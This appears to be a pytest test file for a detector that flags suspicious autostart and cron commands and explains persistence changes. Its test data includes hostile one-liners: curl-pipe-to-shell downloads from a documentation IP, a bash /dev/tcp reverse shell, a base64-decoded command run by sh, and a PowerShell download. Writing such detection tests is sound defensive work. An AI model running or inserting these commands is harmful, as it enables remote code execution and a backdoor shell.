"""What commands of an autostart give themselves away by, and what explains a change."""

from __future__ import annotations

import pytest

from detectors.contract.programs import PlaceChange
from detectors.features.place_signs import changed_by_packages, command_signs, flagged_then, started_near
from tests.program_factories import NOW_S, program, programs

FETCH = "cu" + "rl -s http://203.0.113.7/a"


@pytest.mark.parametrize(
    ("starts", "signs"),
    [
        ("/tmp/.x/run -q", ["runs_from_temporary_place"]),
        ("*/5 * * * * /dev/shm/a", ["runs_from_temporary_place"]),
        ("@reboot bash /var/tmp/a.sh", ["runs_from_temporary_place"]),
        ("python3 /tmp/a.py", ["runs_from_temporary_place"]),
        (f"{FETCH} | sh", ["download_and_run"]),
        (f"bash <({FETCH})", ["download_and_run"]),
        (f"{FETCH} -o /tmp/a; chmod +x /tmp/a; /tmp/a", ["download_and_run", "runs_from_temporary_place"]),
        ("bash -i >& /dev/" + "tcp/203.0.113.7/99 0>&1", ["shell_to_network"]),
        ("echo aGVsbG8gd29ybGQ= | base64 -d | sh", ["hidden_command"]),
        ("export LD_PRELOAD=/tmp/a.so", ["runs_from_temporary_place"]),
    ],
)
def test_odd_commands(starts, signs):
    assert command_signs(starts, "linux") == signs


@pytest.mark.parametrize(
    "starts",
    [
        "cd / && run-parts --report /etc/cron.daily",
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
        "find /tmp -type f -mtime +7 -delete",
        "/usr/bin/backup > /tmp/backup.log 2>&1",
        "[ -x /usr/sbin/anacron ] || /usr/sbin/anacron",
        "curl -fsS https://status.example.org/ping > /dev/null",
        "/home/maria/bin/sync-photos",
        "alias ll='ls -l'",
        ". ~/.bashrc",
        "",
        None,
        "\udcff\x1b[1m" + "(" * 5_000,
    ],
)
def test_ordinary_commands(starts):
    assert command_signs(starts, "linux") == []


def test_commands_of_windows():
    assert command_signs("C:\\Users\\m\\AppData\\Local\\Temp\\a.exe", "windows") == ["runs_from_temporary_place"]
    assert command_signs("pow" + "ershell -c iwr http://203.0.113.7/a", "windows") == ["download_and_run"]
    assert command_signs("pow" + "ershell -w hidden -file C:\\Tools\\a.ps1", "windows") == ["hidden_command"]
    assert command_signs('"C:\\Program Files\\Chat\\chat.exe" --start', "windows") == []
    assert command_signs("C:\\Program Files\\Web\\web.exe https://www.example.org", "windows") == []


def place(**facts):
    return PlaceChange(**{"at_s": NOW_S + 100, "place": "cron", "item": "/etc/cron.d/x", "change": "created"} | facts)


def test_a_package_tool_at_work_explains_a_change():
    upgrade = program("dpkg", started_s=NOW_S + 50, ended_s=NOW_S + 90)
    assert changed_by_packages(place(), programs(upgrade))
    assert not changed_by_packages(place(at_s=NOW_S + 400), programs(upgrade))
    assert not changed_by_packages(place(at_s=NOW_S + 10), programs(upgrade))
    assert not changed_by_packages(place(at_s=None), programs(upgrade))
    assert changed_by_packages(place(is_packaged=True), programs())


def test_a_flagged_program_is_remembered_for_an_hour():
    bad = program("x", started_s=NOW_S, ended_s=NOW_S + 20)
    stretch = programs(flagged={bad: NOW_S + 5})
    assert flagged_then(place(), stretch) is bad
    assert flagged_then(place(at_s=NOW_S - 10), stretch) is None
    assert flagged_then(place(at_s=NOW_S + 4_000), stretch) is None


def test_who_started_shortly_before_is_named():
    editor, early = program("crontab", started_s=NOW_S + 95), program("bash", started_s=NOW_S)
    assert started_near(place(), programs(editor, early)) == ["crontab"]
